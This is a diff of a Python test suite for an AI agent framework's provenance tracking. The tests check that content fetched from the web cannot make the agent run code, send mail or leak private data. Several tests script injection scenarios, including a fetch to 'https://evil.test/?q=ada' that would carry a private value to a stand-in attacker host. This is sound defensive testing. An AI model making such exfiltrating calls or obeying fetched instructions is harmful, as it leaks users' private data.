@@ -10,7 +10,8 @@ from neuraxis import Policy, Rule, Session, command
 from neuraxis.events import ApprovalAsked, CallFinished, CallStarted, Event
 from neuraxis.messages import Result
 from neuraxis.models.scripted import ScriptedModel
-from neuraxis.policy.provenance.labels import Origin, is_foreign, to_tell
+from neuraxis.policy.provenance.labels import Origin, is_outside, to_tell
+from neuraxis.policy.provenance.replay import replay
 from neuraxis.policy.provenance.tracker import Origins
 
 SENT: list[tuple[str, str]] = []
@@ -109,6 +110,11 @@ def run(
     return answer.calls, events
 
 
+def outside(session: Session) -> set[str]:
+    known = session.origins.results.items()
+    return {call_id for call_id, label in known if is_outside(label)}
+
+
 def denied(result: Result) -> bool:
     return result.error is not None and result.error.code == "denied"
 
@@ -152,7 +158,7 @@ def test_fetched_code_is_not_executed(tmp_path: Path) -> None:
     )
     assert ["done", "done", "failed"] == [result.status for result in results]
     assert denied(results[2])
-    assert "code that strangers had a part in" in str(results[2].error)
+    assert "wrote code that this would run" in str(results[2].error)
 
 
 @pytest.mark.parametrize("name", ["json.py", "lib/helper.py", "sitecustomize.pth"])
@@ -236,7 +242,7 @@ def test_a_pure_function_does_not_wash(tmp_path: Path) -> None:
 
 
 def test_after_reading_the_models_words_are_not_its_own(tmp_path: Path) -> None:
-    """A second reply after a page: only the user's words and trusted results count."""
+    """Every effect of a second reply after a page takes a yes (rule Deeds)."""
     results, _ = run(
         tmp_path,
         intents(FETCH, {"tool": "contacts"}),
@@ -248,7 +254,7 @@ def test_after_reading_the_models_words_are_not_its_own(tmp_path: Path) -> None:
         said="Fetch https://a.test/page and mail it to bob@example.org and to Ada",
     )
     verdicts = ["denied" if denied(r) else r.status for r in results[2:]]
-    assert ["denied", "done", "done", "denied", "denied"] == verdicts
+    assert ["denied"] * 5 == verdicts
 
 
 def test_before_reading_the_models_words_are_its_own(tmp_path: Path) -> None:
@@ -270,11 +276,11 @@ def test_a_new_file_may_be_named_by_the_model(tmp_path: Path) -> None:
     ]
     results, _ = run(tmp_path, intents(FETCH), *(intents(call) for call in calls))
     verdicts = ["denied" if denied(r) else r.status for r in results[1:]]
-    assert ["done", "done", "denied", "denied", "denied"] == verdicts
+    assert ["done", "done", "denied", "denied", "done"] == verdicts
 
 
 def test_an_address_may_be_followed_but_not_made_up(tmp_path: Path) -> None:
-    """With something private in sight a composed URL could carry it away."""
+    """With something private in sight only the user's own address, once (rule Out)."""
     url = "https://a.test/page"
     results, _ = run(
         tmp_path,
@@ -282,9 +288,14 @@ def test_an_address_may_be_followed_but_not_made_up(tmp_path: Path) -> None:
         intents({"tool": "fetch", "url": "https://evil.test/?q=ada"}),
         intents({"tool": "fetch", "url": url}),
         intents({"tool": "fetch", "url": "a.test/page/"}),
+        intents({"tool": "fetch", "url": "https://b.test/x?A=1"}),
+        intents({"tool": "fetch", "url": "https://b.test/x?a=1"}),
+        said="Look at https://b.test/x?A=1",
     )
     verdicts = ["denied" if denied(r) else r.status for r in results[2:]]
-    assert ["denied", "done", "done"] == verdicts
+    # the second is answered from what was kept
+    assert ["denied", "done", "denied", "done", "denied"] == verdicts
+    assert results[3].warnings
 
 
 def test_a_person_is_shown_the_call_and_its_origins(tmp_path: Path) -> None:
@@ -300,7 +311,7 @@ def test_a_person_is_shown_the_call_and_its_origins(tmp_path: Path) -> None:
     assert "fetch.fetch" in asked.origins["to"]
     assert 64 == len(asked.digest)
     started = [event for event in events if isinstance(event, CallStarted)]
-    assert ({"source": "fetch.fetch", "open_world": True, "private": False},) == (
+    assert ({"source": "fetch.fetch", "open_world": True, "private": True},) == (
         started[0].origins
     )
 
@@ -376,7 +387,7 @@ def test_going_on_later_knows_what_was_foreign(tmp_path: Path) -> None:
     assert [True, True] == [denied(result) for result in answer.calls]
 
 
-def test_a_loop_over_foreign_items_is_foreign(tmp_path: Path) -> None:
+def test_a_loop_over_foreign_items_is_outside(tmp_path: Path) -> None:
     """`for_each`: each item has the origin of the list."""
     results, events = run(
         tmp_path,
@@ -394,7 +405,7 @@ def test_a_loop_over_foreign_items_is_foreign(tmp_path: Path) -> None:
     )  # fmt: skip
 
 
-@pytest.mark.parametrize("undeclared", ["trusted", "foreign"])
+@pytest.mark.parametrize("undeclared", ["inside", "outside"])
 def test_what_says_nothing_may_be_held_for_foreign(
     tmp_path: Path, undeclared: Any
 ) -> None:
@@ -407,12 +418,12 @@ def test_what_says_nothing_may_be_held_for_foreign(
         ),
         policy=Policy(undeclared=undeclared),
     )
-    assert (undeclared == "foreign") is denied(results[1])
+    assert (undeclared == "outside") is denied(results[1])
 
 
 def test_labels_join() -> None:
     """Nothing is foreign by itself."""
-    assert not is_foreign(frozenset())
+    assert not is_outside(frozenset())
 
 
 def test_a_repeated_answer_is_as_foreign_later(tmp_path: Path) -> None:
@@ -426,8 +437,8 @@ def test_a_repeated_answer_is_as_foreign_later(tmp_path: Path) -> None:
     with Session(model=fetch, **options) as first:
         first.run_sync("go")
     with Session.open(first.id, model=ScriptedModel([]), **options) as later:
-        assert {"a1", "a2", "a3"} == first.origins.foreign_calls()
-        assert {"a1", "a2", "a3"} == later.origins.foreign_calls()
+        assert {"a1", "a2", "a3"} == outside(first)
+        assert {"a1", "a2", "a3"} == outside(later)
 
 
 def test_going_on_later_knows_what_the_calls_were_made_of() -> None:
@@ -440,9 +451,9 @@ def test_going_on_later_knows_what_the_calls_were_made_of() -> None:
         origins=to_tell(frozenset([page])),
     )  # fmt: skip
     origins = Origins()
-    origins.replay([started])
-    assert is_foreign(origins.inputs["a2"])
-    assert is_foreign(origins.of_file("notes/x.py"))
+    replay(origins, [started])
+    assert is_outside(origins.inputs["a2"])
+    assert is_outside(origins.of_file(Path("w"), "notes/x.py"))
 
 
 def test_going_on_later_knows_nothing_of_what_was_given_up() -> None:
@@ -454,7 +465,7 @@ def test_going_on_later_knows_nothing_of_what_was_given_up() -> None:
     skipped = CallFinished(**names, status="skipped")
     for events, known in (([started, done], True), ([started, done, skipped], False)):
         origins = Origins()
-        origins.replay(events)
+        replay(origins, events)
         assert ("a2" in origins.results) == known
         assert bool(origins.read) == known
 
@@ -467,4 +478,4 @@ def test_a_loop_of_repeated_answers_is_as_foreign(tmp_path: Path) -> None:
         model=ScriptedModel(replies), plugins=PLUGINS, workspace=tmp_path / "w"
     ) as session:
         session.run_sync("go")
-        assert {"a1", "a2", "a3.0", "a3"} <= session.origins.foreign_calls()
+        assert {"a1", "a2", "a3.0", "a3"} <= outside(session)
